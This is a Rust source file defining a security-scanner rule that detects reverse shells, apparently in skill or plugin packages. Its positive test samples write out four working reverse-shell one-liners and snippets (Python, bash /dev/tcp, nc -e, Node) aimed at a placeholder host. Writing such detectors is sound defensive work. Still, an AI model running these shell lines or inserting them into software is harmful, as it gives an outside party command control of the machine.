//! `execution-reverse-shell`: a shell is handed to another machine.

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::language::Language;
use crate::scan::operation::Act;
use crate::scan::rule::{Check, Reporter, Rule, Sample};

/// The rule.
pub static RULE: Rule = Rule {
    id: "execution-reverse-shell",
    title: "Wires a shell or a process to a network socket",
    severity: Severity::Blocker,
    confidence: Confidence::High,
    why: "Whoever holds the other end types commands on this machine.",
    fix: "Remove it; no skill needs a remote shell.",
    references: &["CWE-506", "ATT&CK T1059"],
    hits: &[
        Sample::File(
            "scripts/a.py",
            "import os, socket, subprocess\ns = socket.socket()\ns.connect(('192.0.2.7', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh'])\n",
        ),
        Sample::File("a.sh", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n"),
        Sample::File("a.sh", "nc -e /bin/sh 192.0.2.7 4444\n"),
        Sample::File(
            "scripts/a.js",
            "const net = require('net');\nconst { spawn } = require('child_process');\nconst sh = spawn('/bin/sh', []);\nconst c = net.connect(4444, '192.0.2.7', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n",
        ),
    ],
    misses: &[
        Sample::File(
            "scripts/a.py",
            "import os, subprocess\nlog = os.open('log', os.O_WRONLY)\nos.dup2(log, 1)\nsubprocess.call(['date'])\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import socket, subprocess\ns = socket.create_connection(('192.0.2.7', 80))\nsubprocess.call(['date'])\n",
        ),
        Sample::File(
            "a.sh",
            "printf 'GET / HTTP/1.0\\n\\n' | nc example.com 80\n",
        ),
        Sample::File(
            "scripts/a.js",
            "const net = require('net');\nconst c = net.connect(80, 'api.example.com');\nrequire('child_process').spawn('sh', ['build.sh']);\n",
        ),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    let shell = matches!(unit.language, Language::Shell | Language::PowerShell);
    let mut rewired = Vec::new();
    let (mut socket, mut process, mut bare) = (false, false, None);
    for operation in &unit.lowered.operations {
        match &operation.act {
            Act::Rewire => rewired.push(operation.span),
            Act::Contact { local: false, .. } => {
                socket |= is_socket(&operation.callee);
            }
            Act::Execute {
                program, command, ..
            } => {
                process = true;
                if program.as_deref().is_some_and(is_shell) && is_bare(command.text.as_deref()) {
                    bare = bare.or(Some(operation.span));
                }
            }
            _ => {}
        }
    }
    if shell {
        for span in rewired {
            reporter.raise(span);
        }
    } else if let Some(span) = rewired.first()
        && socket
        && process
    {
        reporter.raise(*span);
    } else if let Some(span) = bare
        && socket
    {
        reporter
            .raise(span)
            .message("Starts a bare shell in code that opens a raw socket to elsewhere");
    }
}

fn is_socket(callee: &str) -> bool {
    [
        "socket.",
        "net.",
        "tls.",
        "TCPSocket",
        "fsockopen",
        "IO::Socket",
        "net.Dial",
        "connect",
        "net.sockets.",
        "[net.sockets.",
        "TcpClient",
    ]
    .iter()
    .any(|known| callee.starts_with(known))
        && !callee.starts_with("socket.gethostby")
        && callee != "socket.getaddrinfo"
}

fn is_shell(program: &str) -> bool {
    matches!(
        program,
        "sh" | "bash"
            | "zsh"
            | "dash"
            | "ksh"
            | "cmd"
            | "cmd.exe"
            | "powershell"
            | "powershell.exe"
            | "pwsh"
    )
}

/// A shell without a script or a command: it waits for somebody to type.
fn is_bare(line: Option<&str>) -> bool {
    line.is_some_and(|line| {
        line.len() < 200
            && line
                .split_whitespace()
                .skip(1)
                .all(|word| word.starts_with('-') && !word.starts_with("--") && !word.contains('c'))
    })
}
